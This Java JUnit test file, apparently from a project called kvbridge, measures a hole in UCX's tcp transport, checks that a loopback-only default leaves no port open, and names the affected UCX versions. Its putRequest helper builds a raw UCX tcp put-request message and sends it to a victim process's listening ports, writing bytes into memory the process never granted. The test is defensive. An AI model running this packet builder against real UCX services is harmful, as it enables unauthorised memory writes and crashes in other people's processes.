package io.kvbridge.backend.ucx;

import static io.kvbridge.backend.ucx.HostileVictimProcess.ALL_BLOCKS;
import static io.kvbridge.backend.ucx.HostileVictimProcess.BLOCK;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.kvbridge.backend.ucx.ffm.UcpContext;
import io.kvbridge.spi.memory.Allocation;
import io.kvbridge.spi.memory.MemoryKind;
import io.kvbridge.spi.transfer.DescriptorList;
import io.kvbridge.spi.transfer.Peer;
import io.kvbridge.spi.transfer.TransferBackend;
import io.kvbridge.spi.transfer.TransferOp;
import io.kvbridge.spi.transfer.TransferRequest;
import io.kvbridge.spi.transfer.TransferStatus;
import io.kvbridge.testkit.ChildJvm;
import io.kvbridge.testkit.SideChannelContext;
import io.kvbridge.testkit.TcpListeners;
import java.io.IOException;
import java.io.OutputStream;
import java.lang.foreign.Arena;
import java.lang.foreign.MemorySegment;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Base64;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * A process that speaks UCX's tcp wire protocol itself instead of going through UCX: it connects to
 * each TCP port a victim instance listens on and sends UCX's tcp magic number and one put request
 * (UCX's own message, id {@code UCT_AM_ID_MAX + 1}) naming an address in an unregistered, ungranted
 * block of the victim, followed by the bytes. UCX's tcp transport handles that message below UCP,
 * below everything kvbridge checks, and copies the bytes to the named address without looking at it
 * ({@code uct_tcp_ep_handle_put_req}, UCX 1.13 to 1.22); a UCX built with assertions (Debian's
 * 1.13.1) aborts the victim instead. So no grant check can close this: an instance closes it by
 * opening no such port, which it does by default when its side channel serves loopback.
 */
@Timeout(120)
@ExtendWith(UcxInstalled.class)
final class UcxTcpWireAttackTest
{
    private static final Duration STEP = Duration.ofSeconds(60);
    // UCX's tcp transport: the first 8 bytes of every connection, then messages of a 1-byte id and a 4-byte length
    private static final long MAGIC_NUMBER = 0xCAFEBABE12345678L;
    private static final int PUT_REQUEST_ID = 32 + 1;
    private static final int PUT_REQUEST_BYTES = 8 + 8 + 4;
    private static final int TARGET_BLOCK = 10;
    private static final int WRITTEN = 16;
    private static final byte ATTACK = (byte) 0xC3;

    @BeforeEach
    void requireProc()
    {
        assumeTrue(Files.isReadable(Path.of("/proc/net/tcp")), "no /proc/net/tcp here (not Linux?)");
    }

    @Test
    void withTcpChosenAProcessSpeakingUcxsWireWritesWhereNoOneGranted() throws Exception
    {
        try (ChildJvm victim = ChildJvm.start("victim", HostileVictimProcess.class, "victim", "tcp")) {
            victim.expect("METADATA", STEP);
            long base = Long.parseLong(victim.expect("REGION", STEP).substring("REGION ".length()).trim());
            Set<String> ports = TcpListeners.of(Long.toString(victim.pid()));
            assertFalse(ports.isEmpty(), "the victim opened UCX's tcp transport but listens on nothing");
            for (String port : ports) {
                putRequest(port, base + (long) TARGET_BLOCK * BLOCK);
            }
            String outcome = null;
            for (long deadline = System.nanoTime() + STEP.toNanos(); outcome == null && System.nanoTime() < deadline; Thread.sleep(100)) {
                if (!victim.isAlive()) {
                    outcome = "the victim died";
                    break;
                }
                victim.send("BLOCKS");
                String blocks;
                try {
                    blocks = victim.expect("BLOCKS", STEP);
                }
                catch (AssertionError e) {
                    // it died after the check above
                    Thread.sleep(500);
                    if (victim.isAlive()) {
                        throw e;
                    }
                    outcome = "the victim died";
                    break;
                }
                if (blocks.split(",")[TARGET_BLOCK].equals("mixed")) {
                    outcome = "block " + TARGET_BLOCK + " was written: " + blocks;
                }
            }
            System.out.println("UCX " + UcpContext.version() + ", a put request from outside UCX: " + outcome);
            // measured, not assumed: UCX 1.22.0 writes the bytes, Debian's UCX 1.13.1 aborts on an assertion
            assertTrue(outcome != null, "UCX's tcp transport took no put request from " + ports + ": the hole this test measures is closed; "
                    + "the module README and the default that leaves tcp out on loopback should say so; transcript:\n" + victim.transcript());
        }
    }

    @Test
    void aLoopbackSideChannelWithDefaultTransportsListensOnNothingAndStillServesItsGrants() throws Exception
    {
        assumeTrue(System.getenv(UcxOptions.TLS_ENVIRONMENT) == null, "UCX_TLS is set in the environment and decides the transports");
        try (ChildJvm victim = ChildJvm.start("victim", HostileVictimProcess.class, "victim", HostileVictimProcess.LOOPBACK_DEFAULTS);
                Arena arena = Arena.ofShared();
                TransferBackend peer = new UcxBackendFactory().create(Map.of(), new SideChannelContext("peer", "127.0.0.1"))) {
            byte[] metadata = Base64.getDecoder().decode(victim.expect("METADATA", STEP).substring("METADATA ".length()));
            long base = Long.parseLong(victim.expect("REGION", STEP).substring("REGION ".length()).trim());
            assertEquals(Set.of(), TcpListeners.of(Long.toString(victim.pid())), "the victim listens on TCP ports");

            MemorySegment own = arena.allocate((long) ALL_BLOCKS * BLOCK, 4096);
            own.fill(ATTACK);
            peer.register(Allocation.host(own));
            Peer toVictim = peer.connect(metadata);
            long handle = peer.post(new TransferRequest().start(TransferOp.WRITE).local(peer.prepareLocal(block(own.address(), 0)), new int[] {0})
                    .remote(peer.prepareRemote(toVictim, block(base, 0)), new int[] {0}).count(1).grantKey(HostileVictimProcess.WRITE_KEY));
            assertEquals(TransferStatus.DONE, UcxInstancesTest.awaitTerminal(peer, handle), () -> "the granted WRITE: " + peer.failure(handle));
            peer.release(handle);
            victim.send("BLOCKS");
            assertEquals("BLOCKS c3,5a,42,42,5a,5a,5a,5a,5a,5a,5a,5a", victim.expect("BLOCKS", STEP), "only the granted block 0 was written");
            victim.send("EXIT");
            assertEquals(0, victim.awaitExit(STEP), "the victim ends normally");
        }
    }

    /** Connects to {@code host:port} as a UCX tcp peer would and asks the victim to take {@value #WRITTEN} bytes at {@code address}. */
    private static void putRequest(String listener, long address) throws IOException
    {
        int colon = listener.lastIndexOf(':');
        ByteBuffer message = ByteBuffer.allocate(8 + 5 + PUT_REQUEST_BYTES + WRITTEN).order(ByteOrder.LITTLE_ENDIAN);
        message.putLong(MAGIC_NUMBER);
        message.put((byte) PUT_REQUEST_ID).putInt(PUT_REQUEST_BYTES);
        // address, length, sequence number
        message.putLong(address).putLong(WRITTEN).putInt(1);
        for (int i = 0; i < WRITTEN; i++) {
            message.put(ATTACK);
        }
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress(listener.substring(0, colon), Integer.parseInt(listener.substring(colon + 1))), 5_000);
            OutputStream out = socket.getOutputStream();
            out.write(message.array());
            out.flush();
            // UCX reads the request on its next progress: the connection stays open until then
            Thread.sleep(500);
        }
        catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private static DescriptorList block(long base, int block)
    {
        return DescriptorList.builder(MemoryKind.HOST, 0, 1).add(base + (long) block * BLOCK, BLOCK).build();
    }
}
